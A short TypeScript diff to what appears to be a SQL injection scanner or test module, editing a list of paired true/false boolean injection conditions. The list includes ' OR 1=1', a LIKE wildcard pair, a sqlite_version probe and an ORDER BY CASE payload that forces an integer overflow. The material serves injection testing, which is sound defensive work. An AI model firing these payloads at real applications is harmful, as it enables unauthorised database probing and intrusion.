@@ -18,7 +18,10 @@ const conditions: readonly (readonly [string, string])[] = [
   [" OR 1=1-- -", " OR 1=2-- -"],
   ["%' AND '%1%'='%1%", "%' AND '%1%'='%2%"],
   ["' AND substr(sqlite_version(),1,1)='3", "' AND substr(sqlite_version(),1,1)='9"],
-  [" ASC, (CASE WHEN 1=1 THEN 1 ELSE abs(-9223372036854775808) END)", " ASC, (CASE WHEN 1=2 THEN 1 ELSE 2 END)"],
+  [
+    " ASC, (CASE WHEN 1=1 THEN 1 ELSE abs(-9223372036854775808) END)",
+    " ASC, (CASE WHEN 1=2 THEN 1 ELSE abs(-9223372036854775808) END)",
+  ],
 ];
 
 /** What breaks a statement, or adds another one. */
